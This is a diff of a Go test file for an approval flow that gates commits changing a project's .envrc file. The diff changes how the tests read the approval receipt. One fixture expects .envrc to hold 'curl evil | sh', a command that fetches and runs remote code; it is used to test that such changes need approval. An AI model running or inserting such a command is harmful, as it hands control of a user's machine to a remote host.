@@ -68,8 +68,8 @@ func wantRefusedForTheUser(t *testing.T, w *world, s SettleOutput, why string) {
 	if readFile(t, filepath.Join(w.base, ".envrc")) != "direnv\n" || readFile(t, filepath.Join(w.base, "f")) != "f\n" {
 		t.Error("a refused commit changed the base")
 	}
-	if approved, _ := s.Receipt["approved"].(bool); approved {
-		t.Errorf("the refusal's receipt says approved: %v", s.Receipt)
+	if rc := w.receipt(s.TxID); rc["approved"] == true {
+		t.Errorf("the refusal's receipt says approved: %v", rc)
 	}
 }
 
@@ -90,8 +90,8 @@ func TestApproveAsksTheUser(t *testing.T) {
 			if s.Outcome != "committed" || readFile(t, filepath.Join(w.base, ".envrc")) != "curl evil | sh\n" {
 				t.Fatalf("accepted commit: %+v", s)
 			}
-			if approved, _ := s.Receipt["approved"].(bool); !approved {
-				t.Errorf("the receipt does not say approved: %v", s.Receipt)
+			if rc := w.receipt(s.TxID); rc["approved"] != true {
+				t.Errorf("the receipt does not say approved: %v", rc)
 			}
 			if len(u.questions) != 1 {
 				t.Fatalf("the user was asked %d times, want once", len(u.questions))
@@ -216,8 +216,8 @@ func TestApproveWithoutAsking(t *testing.T) {
 			if opts.u != nil && len(opts.u.questions) != 0 {
 				t.Errorf("the user was asked although the project lets agents approve")
 			}
-			if approved, _ := s.Receipt["approved"].(bool); !approved {
-				t.Errorf("the receipt does not say approved: %v", s.Receipt)
+			if rc := w.receipt(s.TxID); rc["approved"] != true {
+				t.Errorf("the receipt does not say approved: %v", rc)
 			}
 		})
 	}
